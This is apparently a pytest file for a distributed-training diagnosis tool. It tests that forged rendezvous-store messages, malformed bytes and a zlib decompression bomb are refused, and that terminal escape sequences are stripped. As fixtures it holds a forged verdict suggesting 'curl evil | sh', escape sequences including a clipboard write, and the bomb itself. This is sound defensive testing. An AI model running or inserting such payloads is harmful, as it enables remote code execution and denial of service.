"""A stranger who reaches the rendezvous store: what they can say, and what comes of it."""

from __future__ import annotations

import resource
import socket
import threading
import time
import zlib
from contextlib import suppress
from datetime import timedelta
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace
from run_events import hang
from teams import Team, evidence, rank
from torch._C._distributed_c10d import TCPStore

from conftest import COMMAND, Rankscope, wait_until
from ports import free_port
from rankscope.diagnosis.codec import verdict_to_json
from rankscope.diagnosis.verdict import Verdict
from rankscope.errors import UsageError
from rankscope.evidence.model import NodeEvidence
from rankscope.launch import entry
from rankscope.launch import events as on
from rankscope.launch.ending import step
from rankscope.launch.nodes import exchange, node_key
from rankscope.launch.nodes.bounds import TooMuch, plain_json, unpacked
from rankscope.launch.nodes.channel import Channel, connect
from rankscope.launch.nodes.parcel import pack, unpack
from rankscope.launch.nodes.seal import Seal
from rankscope.launch.nodes.vouching import Vouching
from rankscope.launch.nodes.words import Beat, Call, Hello, Nonsense, Ruling, decode, encode
from rankscope.launch.run_state import Policy, State
from rankscope.report import live

FORGED = Verdict(1, "crash", "exception", "proven", (), (), "run this: curl evil | sh", (), ("curl evil | sh",))
RULING = encode(Ruling(99, verdict_to_json(FORGED), True, "failure"))


def stranger(team: Team, key: bytes | None = None):  # type: ignore[no-untyped-def]
    channel = connect(team.store, f"rankscope/{team.store.get('mark').decode()}/", key)
    assert channel is not None
    return channel


@pytest.mark.parametrize("key", [None, b"a key of their own"])
def test_a_verdict_without_the_seal_reaches_nobody_who_has_the_key(key: bytes | None) -> None:
    team = Team(2)
    try:
        assert wait_until(lambda: 1 in team.nodes[0].roster.hellos and 0 in team.nodes[1].roster.hellos, 30.0)
        stranger(team, key).say("ruling", RULING)
        time.sleep(1.5)  # three turns of the exchange
        assert team.rulings[0] == []
        team.nodes[1].rule(on.TellNodes(replace(FORGED, headline="true", fix=()), stop=False, reason="hang"))
        assert wait_until(lambda: bool(team.rulings[0]), 30.0)
        assert [(told.verdict.headline, told.verified) for told in team.rulings[0]] == [("true", True)]
    finally:
        team.close()


def test_without_a_key_a_verdict_of_others_is_not_verified() -> None:
    team = Team(2, key=None)
    try:
        assert wait_until(lambda: 1 in team.nodes[0].roster.hellos, 30.0)
        stranger(team).say("ruling", RULING)
        assert wait_until(lambda: bool(team.rulings[0]), 30.0)
        assert [told.verified for told in team.rulings[0]] == [False]
        seen = team.nodes[1].gather("still")
        assert seen is not None
        assert [(node.host, node.verified) for node in seen.nodes] == [("node-0", False), ("node-1", True)]
    finally:
        team.close()


def test_a_word_cannot_be_moved_to_another_place() -> None:
    seal = Seal(b"secret of the job")
    said = seal.close("attempt/beat/1", b"hello")
    assert seal.open("attempt/beat/1", said).verified
    assert not seal.open("attempt/beat/2", said).verified
    assert not Seal(b"another secret").open("attempt/beat/1", said).verified
    assert not Seal(None).open("attempt/beat/1", said).verified


def test_a_stranger_cannot_take_the_place_of_a_node_that_has_the_key() -> None:
    team = Team(2)
    try:
        forged = Hello(0, "evil", "127.0.0.1", 9, (0,), 1, False)
        stranger(team).say("hello/0", encode(forged))
        stranger(team).append("hellos", b"0,")
        assert wait_until(lambda: 0 in team.nodes[1].roster.hellos, 30.0)
        team.nodes[0].introduce(team.nodes[0]._channel)
        assert wait_until(lambda: team.nodes[1].roster.hellos.get(0) == team.nodes[0].own, 30.0)
        stranger(team).say("hello/0", encode(forged))
        stranger(team).say("beat/0", encode(Beat(999, time.time(), failed=True, wants=99)))
        time.sleep(1.2)
        assert team.nodes[1].roster.hellos[0].host == "node-0"
        assert team.nodes[1].look_wanted() is None
    finally:
        team.close()


@pytest.mark.parametrize(
    ("place", "said"),
    [("beat/0", b"nonsense"), ("hello/0", b"\xff" * 100), ("call", b"\xc1"), ("ruling", b""), ("speaker", b"9" * 5000)],
)
def test_nonsense_on_the_store_is_noted_and_the_nodes_go_on(place: str, said: bytes) -> None:
    team = Team(2, key=None)
    try:
        assert wait_until(lambda: 1 in team.nodes[0].roster.hellos and 0 in team.nodes[1].roster.hellos, 30.0)
        stranger(team).set(place, said)
        stranger(team).append("hellos", b"-1,77777777777,x,," * 50)
        time.sleep(0.7)
        team.nodes[0].introduce(team.nodes[0]._channel)
        seen = team.nodes[1].gather("still")
        assert seen is not None
        assert len(seen.ranks) == 2
    finally:
        team.close()


def the_verdict(team: Team, speaker: int, headline: str) -> None:
    told = on.TellNodes(replace(FORGED, headline=headline, fix=()), stop=True, reason="failure")
    team.nodes[speaker].rule(told)


def heard(team: Team, node: int) -> list[tuple[str, bool]]:
    return [(told.verdict.headline, told.verified) for told in team.rulings[node]]


@pytest.mark.parametrize("attempt", ["mark", "mark/1"], ids=["another job with the same key", "another attempt"])
@pytest.mark.parametrize("given", [False, True], ids=["key made in a folder", "key given"])
def test_words_of_an_earlier_attempt_or_another_job_order_nothing(
    monkeypatch: pytest.MonkeyPatch, attempt: str, given: bool
) -> None:
    monkeypatch.setattr(exchange, "_MEETING_S", 0.5)
    old = Team(2, speaker=0)
    try:
        the_verdict(old, 0, "old")
        assert wait_until(lambda: heard(old, 1) == [("old", True)], 30.0)
    finally:
        old.close()
    # Its words still lie on the store. The stranger puts its mark where node 1 will look, before node 0 is there.
    old.store.set(attempt, old.store.get("mark"))
    new = Team(2, speaker=0, store=old.store, attempt=attempt, order=(1, 0), only_sealed=given)
    try:
        lured = new.nodes[1]
        assert wait_until(lambda: lured._beat.number > 4, 30.0)
        assert heard(new, 1) == ([] if given else [("old", False)])
        assert not lured.roster.knows(0)
        assert lured.roster.others() == ([] if given else [0])
    finally:
        new.close()


@pytest.mark.parametrize("left", [False, True], ids=["of the next attempt", "after the attempt was left"])
def test_node_0_lets_nobody_into_an_attempt_that_is_not_theirs(left: bool) -> None:
    """It is still there, and answers its own nodes."""
    old = Team(2, speaker=0)
    attempt = "mark" if left else "mark/1"
    assert wait_until(lambda: old.nodes[1].roster.vouched, 30.0)
    if left:
        old.nodes[0].leave_attempt()
    else:
        old.store.set(attempt, old.store.get("mark"))
    lured = Team(2, speaker=0, store=old.store, attempt=attempt, order=(1,))
    try:
        asked = f"rankscope/{old.store.get('mark').decode()}/asks"
        assert wait_until(lambda: old.store.get(asked).count(b"1") == 2, 30.0)
        number = old.nodes[0]._beat.number
        assert wait_until(lambda: old.nodes[0]._beat.number > number + 3, 30.0)
        assert old.nodes[1].roster.vouched
        assert not lured.nodes[0].roster.vouched
    finally:
        lured.close()
        old.close()


def test_a_node_that_comes_late_and_a_launcher_that_was_replaced_are_known() -> None:
    first = Team(3, speaker=0, order=(0, 1), only_sealed=True)
    try:
        assert wait_until(lambda: first.nodes[1].roster.knows(0), 30.0)
        late = Team(3, speaker=0, store=first.store, order=(2,), only_sealed=True)
        again = Team(3, speaker=0, store=first.store, order=(1,), only_sealed=True)
        try:
            assert wait_until(lambda: late.nodes[0].roster.knows(0) and again.nodes[0].roster.knows(0), 30.0)
            assert wait_until(lambda: first.nodes[0].roster.knows(2), 30.0)
            the_verdict(first, 0, "true")
            assert wait_until(lambda: heard(late, 2) == heard(again, 1) == [("true", True)], 30.0)
        finally:
            late.close()
            again.close()
    finally:
        first.close()
    assert [*first.notes, *late.notes, *again.notes] == []


@pytest.mark.parametrize("speaker", [0, 1])
def test_what_is_said_in_the_first_moment_is_heard_as_verified_and_once(speaker: int) -> None:
    team = Team(2, speaker=speaker)
    try:
        the_verdict(team, speaker, "at once")
        team.nodes[1 - speaker].tell_signal(15)
        seen = team.nodes[speaker].gather("failure")
        assert seen is not None
        assert all(node.verified for node in seen.nodes)
        assert wait_until(lambda: bool(team.rulings[1 - speaker] and team.stops[speaker]), 30.0)
        number = team.nodes[0]._beat.number
        assert wait_until(lambda: team.nodes[0]._beat.number > number + 2, 30.0)
        assert heard(team, 1 - speaker) == [("at once", True)]
        assert len(team.stops[speaker]) == 1
    finally:
        team.close()


def test_nodes_without_a_common_key_know_it_at_once_and_tell_what_they_hear(monkeypatch: pytest.MonkeyPatch) -> None:
    """Their keys were made in folders that they do not share."""
    monkeypatch.setattr(exchange, "_MEETING_S", 60.0)
    first = Team(2, b"made on the first", speaker=0, order=(0,))
    other = Team(2, b"made on the other", speaker=0, order=(1,), store=first.store)
    try:
        the_verdict(first, 0, "true")
        assert wait_until(lambda: heard(other, 1) == [("true", False)], 30.0)
    finally:
        other.close()
        first.close()


def test_an_answer_that_comes_late_turns_what_was_told_into_what_is_followed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exchange, "_MEETING_S", 0.0)
    answer = Vouching.answer
    monkeypatch.setattr(Vouching, "answer", lambda _self: None)
    team = Team(2, speaker=0)
    try:
        the_verdict(team, 0, "true")
        assert wait_until(lambda: heard(team, 1) == [("true", False)], 30.0)
        monkeypatch.setattr(Vouching, "answer", answer)
        assert wait_until(lambda: heard(team, 1) == [("true", False), ("true", True)], 30.0)
    finally:
        team.close()


def test_with_a_key_given_to_all_nodes_a_first_word_without_it_is_not_heard() -> None:
    team = Team(3, speaker=0, order=(0, 1), only_sealed=True)
    try:
        stranger(team).say("hello/2", encode(Hello(2, "evil", "127.0.0.1", 9, (2,), 1, False)))
        stranger(team).append("hellos", b",2,")
        assert wait_until(lambda: bool(team.notes), 30.0)
        assert team.notes == ["node 2 was not heard: its first word came without the key of this job"]
        assert 2 not in team.nodes[0].roster.hellos
    finally:
        team.close()


@pytest.mark.parametrize("mark", [b"\xff\xfe", b"", b"x" * 10_000, b"../../none/torch", b"0" * 15 + b"\n"])
def test_a_mark_that_is_none_leaves_a_node_alone_and_running(mark: bytes) -> None:
    store: Any = TCPStore("127.0.0.1", 0, None, True, timedelta(seconds=20), wait_for_workers=False)
    store.set("mark", mark)
    team = Team(2, speaker=0, store=store, order=(1,))
    try:
        assert team.notes == [
            "what marks this attempt on the rendezvous store is no mark: this node sees its own ranks only"
        ]
    finally:
        team.close()


class Words:
    """As a store, with one list on it."""

    def __init__(self, named: bytes) -> None:
        self._named = named

    def check(self, _names: list[str]) -> bool:
        return True

    def multi_get(self, _names: list[str]) -> list[bytes]:
        return [self._named]


@pytest.mark.parametrize("most", [8, 300, 4096])
@pytest.mark.parametrize("evil", [b"9" * 5000, b"-1", "²".encode(), b"\xff", b"0x1", b"", b" 2", b"1_0"])
def test_a_list_on_the_store_names_nodes_whatever_a_stranger_adds(most: int, evil: bytes) -> None:
    channel = Channel(lambda _limit: Words(b",1," + b",3," + evil + b","), "p/")
    assert channel.listed("answers/1", most) == [1, 3]


STRANGERS_WORDS = {
    "rankscope/attempt/0": b"\xff\xfe",
    "rankscope/meeting/0/0": b'\0{"host":"evil","machine":"x","itself":"127.0.0.1"}',
}


@pytest.mark.slow
@pytest.mark.parametrize("place", STRANGERS_WORDS)
def test_a_stranger_who_writes_before_the_nodes_have_met_ends_no_launcher(rankscope: Rankscope, place: str) -> None:
    script = rankscope.script("import time; time.sleep(4); print('trained')")
    port, over = free_port(), threading.Event()

    def listens() -> bool:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), 0.5):
            return True
        return False

    def write() -> None:
        wait_until(listens, 60.0)
        store: Any = TCPStore("127.0.0.1", port, None, False, timedelta(seconds=20), wait_for_workers=False)
        with suppress(RuntimeError):  # the job is over
            while not over.is_set():
                store.set(f"none/{place}", STRANGERS_WORDS[place])

    writing = threading.Thread(target=write, daemon=True)
    writing.start()
    options = ["--nnodes", 2, "--nproc-per-node", 1, "--master-addr", "127.0.0.1", "--master-port", port]
    nodes = [
        rankscope.command(
            *(*COMMAND, "run", *options, "--node-rank", number),
            *("--run-dir", rankscope.folder / f"run-{number}", script),
            env={node_key.VARIABLE: "given to both launchers"},
        )
        for number in range(2)
    ]
    ended = [node.wait(60.0) for node in nodes]
    over.set()
    writing.join(10.0)
    assert [each.code for each in ended] == [0, 0], [each.lines()[-8:] for each in ended]
    assert b"trained" in ended[0].out


def test_an_error_that_ends_a_launcher_does_not_steer_the_terminal(capfd: pytest.CaptureFixture[str]) -> None:
    def main() -> int:
        raise UsageError("rank 0 runs on evil\x1b]0;title\x07\x1b[2J\x1b]52;c;cm0=\x07.")

    assert entry._told(main) == 2
    assert capfd.readouterr().err == "rankscope: rank 0 runs on evil.\n"


def running(phase: str = "running") -> State:
    state = State(Policy(), world_size=2, several_nodes=True)
    return replace(state, phase=phase)


@pytest.mark.parametrize("phase", ["running", "asked", "looking", "awaiting", "holding", "stopping"])
@pytest.mark.parametrize("reason", ["hang", "failure", "signal", "numbers"])
def test_an_unverified_ruling_stops_nothing_and_shows_no_command(phase: str, reason: on.Reason) -> None:
    event = on.Ruled(FORGED, stop=True, reason=reason, signal=15, speaker="node-0", verified=False)
    state, actions = step(running(phase), event)
    assert state.found is None
    assert state.cut_by is None
    assert not [a for a in actions if isinstance(a, on.StopRanks | on.Restart | on.EndNow | on.Write | on.LetGo)]
    told = [live.words(action.line) for action in actions if isinstance(action, on.Tell)]
    assert len(told) == 1
    assert told[0].startswith("node-0 says (not verified")
    assert step(state, event)[1] == () or phase == "awaiting"  # once


@pytest.mark.parametrize(("still_s", "stops"), [(2.0, False), (30.0, True)])
def test_a_hang_that_rests_on_hearsay_stops_only_ranks_that_are_still(still_s: float, stops: bool) -> None:
    nodes = (NodeEvidence("a", (0,), "answered"), NodeEvidence("b", (1,), "answered", verified=False))
    seen = hang("proven", still_s=still_s)
    event = replace(seen, evidence=replace(seen.evidence, nodes=nodes))
    _, actions = step(running(), event)
    assert any(isinstance(action, on.StopRanks) for action in actions) == stops


def test_a_small_parcel_does_not_take_the_memory_of_the_machine() -> None:
    bomb = zlib.compress(b"[" + b" " * (700 << 20) + b"]", 9)
    assert len(bomb) < 1 << 20
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(TooMuch, match="more than"):
        unpack(bomb, (0,))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300 << 10


@pytest.mark.parametrize(
    "text",
    [b"[" * 100_000, b'{"a":' * 1000, b"{}", b"null", b"[[[]]]", b"\xff\xfe", b'{"schema": 1e999}'],
)
def test_a_parcel_that_is_no_evidence_is_refused(text: bytes) -> None:
    with pytest.raises(TooMuch):
        unpack(zlib.compress(text), (0,))


@given(st.binary(max_size=200))
def test_any_bytes_are_a_refused_parcel_and_a_refused_word(data: bytes) -> None:
    with pytest.raises(TooMuch):
        unpacked(data, 1)
    for kind in (Hello, Beat, Call, Ruling):
        try:
            decode(data, kind)  # type: ignore[type-var]
        except Nonsense:
            continue


def test_of_a_node_only_its_own_ranks_are_taken() -> None:
    packed = pack(evidence(rank(0, "a"), rank(1, "b"), world=8))
    assert [seen.rank for seen in unpack(packed.data, (0, 1, 2)).evidence.ranks] == [0, 1]
    with pytest.raises(TooMuch, match="other nodes"):
        unpack(packed.data, (1, 2))


@given(st.text())
def test_texts_of_other_nodes_do_not_steer_the_terminal(text: str) -> None:
    kept: str = msgspec.json.decode(plain_json(msgspec.json.encode(text)))
    assert not [
        c for c in kept if (ord(c) < 32 and c not in "\n\t\r\b\f") or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u2066"
    ]
    if text.isalnum():
        assert kept == text


def test_the_first_node_makes_the_key_of_a_shared_folder_and_the_others_read_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(node_key.VARIABLE, raising=False)
    first = node_key.find_key(None, tmp_path)
    assert first is not None
    assert len(first) == 64
    assert node_key.find_key(None, tmp_path) == first
    assert (tmp_path / ".node-key").stat().st_mode & 0o777 == 0o600
    assert [path.name for path in tmp_path.iterdir()] == [".node-key"]
    monkeypatch.setenv(node_key.VARIABLE, "sixteen letters!")
    assert node_key.find_key(None, tmp_path) == b"sixteen letters!"
    assert node_key.find_key(None, None) is None  # it is not left to the ranks


@pytest.mark.parametrize(("mode", "content", "why"), [(0o644, "x" * 32, "chmod 600"), (0o600, "short", "5 bytes")])
def test_a_key_file_that_others_can_read_is_refused(tmp_path: Path, mode: int, content: str, why: str) -> None:
    file = tmp_path / "key"
    file.write_text(content)
    file.chmod(mode)
    with pytest.raises(UsageError, match=why):
        node_key.find_key(file, None)
